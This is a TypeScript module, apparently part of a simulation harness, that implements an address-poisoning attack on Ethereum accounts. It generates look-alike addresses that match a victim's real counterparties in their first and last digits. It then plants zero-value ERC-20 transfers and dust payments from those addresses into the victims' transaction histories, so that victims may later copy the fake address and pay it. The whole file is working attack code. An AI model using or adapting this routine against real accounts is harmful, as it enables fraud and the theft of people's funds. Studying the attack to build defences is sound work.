import { type Address, getAddress, isAddressEqual, keccak256 } from 'viem'
import { POISONED_ABI } from '../contracts/abis.js'
import type { LoggedTransaction } from './transactionLog.js'
import { type Client, inTheNameOf, receiptOf } from './transactions.js'

/** Number of leading and trailing digits that people compare. */
const FIRST = 4
const LAST = 6

/** An address that looks like another one when shortened; deterministic. */
export const lookAlike = (address: Address): Address => {
  const digits = address.slice(2).toLowerCase()
  const middle = keccak256(address).slice(2, 2 + digits.length - FIRST - LAST)
  return getAddress(`0x${digits.slice(0, FIRST)}${middle}${digits.slice(-LAST)}`)
}

const BALANCE = 10n ** 16n
/** Too little to be noticed; it only has to appear in the history. */
const DUST = 1_000n

/**
 * Poisons the histories of accounts: imitates each recipient by a zero transfer in the payer's name, which any ERC-20
 * allows, and by a dust amount of the coin.
 */
export const makePoisoner = (deps: {
  readonly client: Client
  /** Any ERC-20 of the chain. */
  readonly token: Address
  readonly victims: readonly Address[]
  readonly transactions: () => Promise<readonly LoggedTransaction[]>
}): (() => Promise<void>) => {
  const { client, token, victims } = deps
  const isVictim = (address: Address): boolean => victims.some((victim) => isAddressEqual(victim, address))
  /** Transactions sent by the accounts themselves, without those of imitators in their name. */
  const payments = (log: readonly LoggedTransaction[]) =>
    log
      .filter(({ from }) => isVictim(from))
      .flatMap(({ from, movements }) =>
        movements
          .filter((each) => isAddressEqual(each.from, from) && !isAddressEqual(each.to, from))
          .map(({ to }) => ({ victim: from, paid: to })),
      )
  const imitate = async (victim: Address, imitator: Address): Promise<void> => {
    const nothing = await client.writeContract({
      account: imitator,
      chain: null,
      address: token,
      abi: POISONED_ABI,
      functionName: 'transferFrom',
      args: [victim, imitator, 0n],
    })
    await receiptOf(client, nothing)
    await receiptOf(client, await client.sendTransaction({ account: imitator, to: victim, value: DUST, chain: null }))
  }
  return async () => {
    const log = await deps.transactions()
    const done = new Set(log.map(({ from, to }) => `${from} ${to}`.toLowerCase()))
    for (const { victim, paid } of payments(log)) {
      const imitator = lookAlike(paid)
      const key = `${imitator} ${victim}`.toLowerCase()
      if (done.has(key)) continue
      done.add(key)
      await inTheNameOf(client, { address: imitator, value: BALANCE }, () => imitate(victim, imitator))
    }
  }
}
